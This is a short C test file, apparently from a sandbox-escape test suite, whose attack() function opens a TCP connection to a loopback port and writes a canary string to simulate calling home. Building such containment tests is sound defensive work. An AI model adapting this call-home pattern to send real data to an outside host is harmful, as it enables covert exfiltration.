/* Calls home by TCP. */
#include "../addresses.h"
#include "../attack.h"

static void attack(void) {
    const struct sockaddr_in address = loopback(target_number("tcp_port"));
    const int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(fd, (const struct sockaddr*)&address, sizeof address) == 0)
        write(fd, target("canary"), strlen(target("canary")));
}
